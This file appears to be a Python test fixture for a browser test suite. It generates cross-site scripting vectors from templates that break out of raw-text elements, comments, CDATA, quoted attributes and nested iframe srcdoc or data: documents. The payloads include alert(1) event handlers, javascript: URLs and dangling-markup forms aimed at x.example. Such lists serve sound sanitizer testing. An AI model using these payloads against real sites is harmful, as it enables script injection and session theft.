"""Ways out of where a text stands: attributes, comments, declarations, and elements whose content is no HTML."""

from __future__ import annotations

from collections.abc import Iterator

from tests.browser.vectors.payloads import DRAWING, PICTURE, PIECES, RUN, SCRIPT, base64, words

TEXT_ELEMENTS = words("""
title textarea style xmp noembed noframes iframe noscript plaintext template script select option
""")

OUT_OF_AN_ELEMENT = (
    "</{name}>{piece}",
    "</{name} >{piece}",
    "</{name}/>{piece}",
    "</{name}\t\n>{piece}",
    "</{NAME} x='>'>{piece}",
    "<{name}>{piece}</{name}>",
    "<{name}></{name}>{piece}",
    "<{name}/>{piece}",
    "<{name}><{name}></{name}>{piece}",
    '<{name}><p title="</{name}>{piece}">',
    "<{name}><p title='</{name}>{piece}'>",
    "<{name}><!--</{name}>{piece}-->",
    "<{name}><!--</{name}>--!>{piece}",
    "<{name}><![CDATA[</{name}>{piece}]]>",
    "<{name}>&lt;/{name}&gt;{piece}</{name}>{piece}",
)

COMMENTS = (
    "-->{piece}",
    "--!>{piece}",
    "--\n>{piece}",
    "<!-->{piece}-->",
    "<!--->{piece}-->",
    "<!---->{piece}",
    "<!--x--!>{piece}-->",
    "<!--x-- >{piece}-->",
    "<!--<!-->{piece}-->",
    "<!-- <!-- x --> {piece} -->",
    '<!--<p title="-->{piece}">',
    "<!--<p title='-->{piece}'>",
    "<!-- -- -->{piece}<!-- -->",
    "<!- -{piece}- ->",
    "<!x>{piece}",
    '<!x "{piece}">',
    "<!x '>{piece}'>",
    "<?x>{piece}",
    "<?x {piece}?>",
    '<?xml version="1.0"?>{piece}',
    '<?xml-stylesheet href="data:text/css,x"?>{piece}',
    "<?php echo '{piece}' ?>",
    "<%{piece}%>",
    "<% x %>{piece}",
    "</ >{piece}",
    "</?x>{piece}",
    '</x title="{piece}">{piece}',
    "<![CDATA[{piece}]]>",
    "<![CDATA[x]]>{piece}",
    "]]>{piece}",
    "<![CDATA[x>{piece}]]>",
    "<svg><![CDATA[>{piece}]]></svg>",
    "<svg><![CDATA[x]]>{piece}</svg>",
    "<svg><title><![CDATA[</title>{piece}]]></svg>",
    "<!DOCTYPE html>{piece}",
    '<!DOCTYPE x PUBLIC "{piece}">{piece}',
    '<!DOCTYPE x [<!ENTITY y "{piece}">]>&y;',
    "<!ELEMENT x>{piece}",
    "<!--[if mso]>{piece}<![endif]-->",
    "<!--[if !mso]><!-->{piece}<!--<![endif]-->",
    "<!--[if gte IE 4]>{piece}<![endif]-->",
    "<![if !mso]>{piece}<![endif]>",
    "<![endif]-->{piece}",
    "<![endif]>{piece}",
    "<comment>{piece}</comment>",
    "<!--jinja_0_-->{piece}",
)

OUT_OF_AN_ATTRIBUTE = (
    "{quote}>{piece}",
    "{quote} >{piece}",
    "{quote}/>{piece}",
    "{quote}>{piece}<p title={quote}",
    "{quote}>{piece}<!--",
    "x{quote}\n>{piece}",
    "{quote}></p></td></tr></table>{piece}",
    "\\{quote}>{piece}",
    "{quote}{quote}>{piece}",
)

INTO_AN_ATTRIBUTE = (
    "{quote} autofocus tabindex=0 onfocus=alert(1) x={quote}",
    "{quote} autofocus tabindex=0 onfocus={quote}alert(1)",
    "{quote}autofocus/tabindex=0/onfocus=alert(1)//",
    "{quote}\nautofocus\ttabindex=0\fonfocus=alert(1)\n",
    "{quote} style=content-visibility:auto oncontentvisibilityautostatechange=alert(1) x={quote}",
    "{quote} style={quote}background:url(https://x.example/)",
    "{quote} onmouseover={quote}alert(1)",
    "{quote} src=x onerror={quote}alert(1)",
    "{quote};alert(1);{quote}",
    "{quote}-alert(1)-{quote}",
    "{quote}+alert(1)+{quote}",
    "{quote});alert(1)//",
    "\\{quote};alert(1)//",
    "${{alert(1)}}",
    "{quote} href={quote}javascript:alert(1)",
)

QUOTES = ('"', "'", "`", "&quot;", "&#39;", "\uff02", "")

UNCLOSED = (
    "<a href='{piece}",
    '<a href="{piece}',
    "<a href=`{piece}",
    "<a title='x' x='{piece}",
    "<!--{piece}",
    "<p {piece}",
    "<p title={piece}",
    "<{piece}",
    "</{piece}",
    "<p><{piece}",
    "<img src='https://x.example/?{piece}",
    "<form action='https://x.example/'><textarea>{piece}",
    "<form action='https://x.example/'><button>x</button><select><option>{piece}",
    "<base target='{piece}",
    "<div hidden>{piece}",
    "</p></div></blockquote></td></tr></tbody></table></body></html>{piece}",
    "</table></td><table><td>{piece}",
    "<table>{piece}",
    "<plaintext>{piece}",
    "<xmp>{piece}",
)

DOCUMENTS = (
    '<iframe srcdoc="{piece}"></iframe>',
    "<iframe srcdoc='{entities}'></iframe>",
    "<iframe srcdoc='{twice}'></iframe>",
    '<iframe srcdoc="<iframe srcdoc=&quot;{twice}&quot;></iframe>"></iframe>',
    '<iframe srcdoc="{piece}" sandbox></iframe>',
    '<iframe srcdoc="{piece}" sandbox=allow-scripts></iframe>',
    '<iframe srcdoc="<base href=https://x.example/><img src=x>{piece}"></iframe>',
    '<iframe src="data:text/html,{piece}"></iframe>',
    '<iframe src="data:text/html;base64,{base64}"></iframe>',
    '<object data="data:text/html,{piece}"></object>',
    '<object type=text/html data="data:text/html;base64,{base64}"></object>',
    '<embed src="data:text/html,{piece}">',
    '<embed type=text/html src="data:text/html;base64,{base64}">',
    "<iframe src=\"javascript:'{piece}'\"></iframe>",
    "<html><head></head><body>{piece}</body></html>",
    "<head><title>x</title></head>{piece}",
    "<frameset>{piece}",
    "<body><body>{piece}",
    "<p><template shadowrootmode=open>{piece}</template></p>",
    "<div><template shadowrootmode=closed>{piece}</template></div>",
    "<template>{piece}</template>",
    "<template><template>{piece}</template></template>",
    "<select><button><selectedcontent></selectedcontent></button><option>{piece}</select>",
)


def vectors() -> Iterator[str]:
    yield from PIECES
    yield from out_of_elements_of_text()
    yield from (comment.replace("{piece}", piece) for comment in COMMENTS for piece in PIECES)
    yield from through_quotes()
    yield from (start.replace("{piece}", piece) for start in UNCLOSED for piece in (SCRIPT, PICTURE))
    yield from documents_in_the_document()


def out_of_elements_of_text() -> Iterator[str]:
    for name in TEXT_ELEMENTS:
        for shape in OUT_OF_AN_ELEMENT:
            yield shape.format(name=name, NAME=name.upper(), piece=PICTURE)
        yield OUT_OF_AN_ELEMENT[0].format(name=name, piece=SCRIPT)


def through_quotes() -> Iterator[str]:
    for quote in QUOTES:
        yield from (shape.format(quote=quote, piece=PICTURE) for shape in OUT_OF_AN_ATTRIBUTE)
        yield from (shape.format(quote=quote) for shape in INTO_AN_ATTRIBUTE)
        yield OUT_OF_AN_ATTRIBUTE[0].format(quote=quote, piece=SCRIPT)
        yield OUT_OF_AN_ATTRIBUTE[0].format(quote=quote, piece=DRAWING)


def documents_in_the_document() -> Iterator[str]:
    """A document of its own obeys nothing that was checked around it."""
    for shape in DOCUMENTS:
        for piece in PIECES:
            entities = "".join(f"&#{ord(letter)};" for letter in piece)
            twice = entities.replace("&", "&amp;")
            yield shape.format(piece=piece, entities=entities, twice=twice, base64=base64(piece))
    yield f"<iframe srcdoc={RUN}></iframe>"
